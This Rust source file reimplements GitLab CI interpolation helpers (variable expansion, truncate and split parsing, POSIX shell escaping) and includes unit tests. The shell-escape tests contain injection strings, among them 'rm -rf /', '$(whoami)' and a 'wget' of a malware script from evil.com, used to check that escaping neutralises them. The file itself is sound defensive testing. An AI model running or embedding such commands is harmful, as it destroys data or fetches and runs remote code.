//! The interpolation functions GitLab has (`expand_vars`, `truncate`, `posix_escape`, `split`)
//! and the Ruby string behaviour they rely on.

/// Ruby's `data.split('|').map(&:strip)`: trailing empty parts are dropped before the strip.
pub(super) fn ruby_split_pipes(data: &str) -> Vec<String> {
    let mut parts: Vec<&str> = data.split('|').collect();
    while parts.len() > 1 && parts.last().is_some_and(|p| p.is_empty()) {
        parts.pop();
    }
    parts.into_iter().map(|p| p.trim().to_string()).collect()
}

/// Ruby's `String#split(separator)` for a string separator: a single space splits on runs of
/// whitespace, ignoring leading ones; trailing empty parts are dropped either way.
pub(super) fn ruby_split<'a>(text: &'a str, separator: &str) -> Vec<&'a str> {
    let mut parts: Vec<&str> = match separator {
        " " => text.split_whitespace().collect(),
        _ => text.split(separator).collect(),
    };
    while parts.last().is_some_and(|p| p.is_empty()) {
        parts.pop();
    }
    parts
}

/// `truncate(offset, length)`, as GitLab's pattern reads it (the closing parenthesis is
/// optional there too).
pub(super) fn truncate_args(function: &str) -> Option<(usize, usize)> {
    let rest = function.strip_prefix("truncate(")?;
    let rest = rest.strip_suffix(')').unwrap_or(rest);
    let (offset, length) = rest.split_once(',')?;
    let number = |s: &str| {
        let s = s.trim();
        (!s.is_empty() && s.bytes().all(|b| b.is_ascii_digit()))
            .then(|| s.parse::<usize>().ok())
            .flatten()
    };
    Some((number(offset)?, number(length)?))
}

/// `split('separator')`.
pub(super) fn split_args(function: &str) -> Option<&str> {
    let inner = function.strip_prefix("split('")?.strip_suffix("')")?;
    (!inner.contains('\'')).then_some(inner)
}

/// GitLab's `ExpandVariables.expand_existing`: `$NAME`, `${NAME}` and `%NAME%` of a known
/// variable are replaced by its value (one level: a value is not expanded again); anything
/// else stays as written.
pub(super) fn expand_existing(text: &str, variables: &[(String, String)]) -> String {
    let lookup = |name: &str| crate::local::expand::last(variables, name);
    let bytes = text.as_bytes();
    let name_len = |from: usize| -> usize {
        let mut end = from;
        while end < bytes.len()
            && (bytes[end] == b'_'
                || bytes[end].is_ascii_alphabetic()
                || (end > from && bytes[end].is_ascii_digit()))
        {
            end += 1;
        }
        end - from
    };
    let mut out = String::with_capacity(text.len());
    let mut i = 0;
    let mut copied = 0;
    while i < bytes.len() {
        let (skip, name) = match bytes[i] {
            b'$' if bytes.get(i + 1) == Some(&b'{') => {
                let n = name_len(i + 2);
                match bytes.get(i + 2 + n) {
                    Some(b'}') if n > 0 => (n + 3, &text[i + 2..i + 2 + n]),
                    _ => (0, ""),
                }
            }
            b'$' => match name_len(i + 1) {
                0 => (0, ""),
                n => (n + 1, &text[i + 1..i + 1 + n]),
            },
            b'%' => {
                let n = name_len(i + 1);
                match bytes.get(i + 1 + n) {
                    Some(b'%') if n > 0 => (n + 2, &text[i + 1..i + 1 + n]),
                    _ => (0, ""),
                }
            }
            _ => (0, ""),
        };
        if skip == 0 {
            i += 1;
            continue;
        }
        if let Some(value) = lookup(name) {
            out.push_str(&text[copied..i]);
            out.push_str(value);
            copied = i + skip;
        }
        i += skip;
    }
    out.push_str(&text[copied..]);
    out
}

/// Ruby's `Shellwords.shellescape`, which GitLab's `posix_escape` is.
pub(super) fn shell_escape(text: &str) -> String {
    if text.is_empty() {
        return "''".into();
    }
    let mut out = String::with_capacity(text.len() * 2);
    for c in text.chars() {
        match c {
            '\n' => out.push_str("'\n'"),
            c if c.is_ascii_alphanumeric() || "_-.,:+/@".contains(c) => out.push(c),
            c => {
                out.push('\\');
                out.push(c);
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn posix_escape_is_rubys_shellescape() {
        // GitLab's own examples (spec/lib/gitlab/ci/config/interpolation/functions).
        assert_eq!(
            shell_escape("String with \" and ' and  blanks"),
            "String\\ with\\ \\\"\\ and\\ \\'\\ and\\ \\ blanks"
        );
        assert_eq!(
            shell_escape("file.txt; rm -rf /"),
            "file.txt\\;\\ rm\\ -rf\\ /"
        );
        assert_eq!(
            shell_escape("file_$(whoami).txt"),
            "file_\\$\\(whoami\\).txt"
        );
        assert_eq!(
            shell_escape("file.txt\nwget http://evil.com/malware.sh"),
            "file.txt'\n'wget\\ http://evil.com/malware.sh"
        );
        assert_eq!(shell_escape("$CI_JOB_TOKEN"), "\\$CI_JOB_TOKEN");
        assert_eq!(shell_escape(""), "''");
    }

    #[test]
    fn expand_vars_expands_known_variables_one_level() {
        let vars = vec![
            ("MY_VAR".to_string(), "my value".to_string()),
            ("NESTED".to_string(), "$MY_VAR".to_string()),
        ];
        assert_eq!(expand_existing("test $MY_VAR", &vars), "test my value");
        assert_eq!(
            expand_existing("${MY_VAR}-%MY_VAR%", &vars),
            "my value-my value"
        );
        assert_eq!(
            expand_existing("$NESTED $UNKNOWN $$ 5%", &vars),
            "$MY_VAR $UNKNOWN $$ 5%"
        );
    }

    #[test]
    fn truncate_and_split_read_their_arguments_as_gitlab_does() {
        assert_eq!(truncate_args("truncate(3,5)"), Some((3, 5)));
        assert_eq!(truncate_args("truncate( 1 , 2 )"), Some((1, 2)));
        assert_eq!(truncate_args("truncate(1,2"), Some((1, 2)));
        assert_eq!(truncate_args("truncate(-1,2)"), None);
        assert_eq!(split_args("split(',')"), Some(","));
        assert_eq!(split_args("split(,)"), None);
        assert_eq!(ruby_split(" a  b ", " "), ["a", "b"]);
        assert_eq!(
            ruby_split_pipes("inputs.a | truncate(0,1) |"),
            ["inputs.a", "truncate(0,1)"]
        );
    }
}
